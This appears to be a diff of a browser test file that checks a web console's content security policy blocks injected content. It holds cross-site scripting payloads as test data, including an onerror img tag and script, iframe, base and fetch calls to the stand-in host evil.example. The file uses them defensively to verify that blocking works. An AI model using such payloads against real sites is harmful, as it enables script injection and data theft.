@@ -2,9 +2,9 @@ import { once } from "node:events";
 import { createServer, request as forward } from "node:http";
 import type { AddressInfo } from "node:net";
 import { describe, expect } from "vitest";
-import { signIn, test } from "../support/console.js";
+import { signIn, test } from "../support/browser/console.js";
+import { openWatchedPage } from "../support/browser/watched-page.js";
 import { BASE_CONFIG, PROJECT, VIEWER } from "../support/project.js";
-import { openWatchedPage } from "../support/watched-page.js";
 
 test.override("traffic", { days: 7, messages: 500 });
 
@@ -17,32 +17,45 @@ describe("the policy of the page", () => {
     await watched.close();
   });
 
-  test.for([
+  test.for<[what: string, attempt: () => unknown]>([
     [
       "scripts in the page",
-      "document.head.append(Object.assign(document.createElement('script'), {text: 'window.ran = 1'}))",
+      () => document.head.append(Object.assign(document.createElement("script"), { text: "window.ran = 1" })),
     ],
-    ["text that becomes HTML", "document.body.innerHTML = '<img src=x onerror=\"window.ran = 1\">'"],
+    [
+      "text that becomes HTML",
+      () => Object.assign(document.body, { innerHTML: '<img src=x onerror="window.ran = 1">' }),
+    ],
     [
       "scripts of elsewhere",
-      "document.head.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))",
+      () =>
+        document.head.append(
+          Object.assign(document.createElement("script"), { src: "https://evil.example/x.js" }),
+        ),
     ],
-    ["connections to elsewhere", "fetch('https://evil.example/').catch(() => {})"],
-    ["styles in the page", "document.body.setAttribute('style', 'color: red')"],
+    ["connections to elsewhere", () => fetch("https://evil.example/")],
+    ["styles in the page", () => document.body.setAttribute("style", "color: red")],
     [
       "frames",
-      "document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://evil.example/'}))",
+      () =>
+        document.body.append(
+          Object.assign(document.createElement("iframe"), { src: "https://evil.example/" }),
+        ),
     ],
     [
       "another base for addresses",
-      "document.head.append(Object.assign(document.createElement('base'), {href: 'https://evil.example/'}))",
+      () =>
+        document.head.append(
+          Object.assign(document.createElement("base"), { href: "https://evil.example/" }),
+        ),
     ],
-  ] as const)("forbids %s", async ([_, script], { console }) => {
+  ])("forbids %s", async ([_, attempt], { console }) => {
     const watched = await console.newPage();
     await watched.page.goto(console.url);
-    await watched.page.evaluate(`(() => { try { ${script} } catch {} })()`);
+    // The policy makes some attempts throw.
+    await watched.page.evaluate(attempt).catch(() => {});
     await expect.poll(() => watched.problems().some((problem) => problem.startsWith("policy: "))).toBe(true);
-    expect(await watched.page.evaluate("window.ran")).toBeUndefined();
+    expect(await watched.page.evaluate(() => "ran" in window)).toBe(false);
     await watched.close();
   });
 
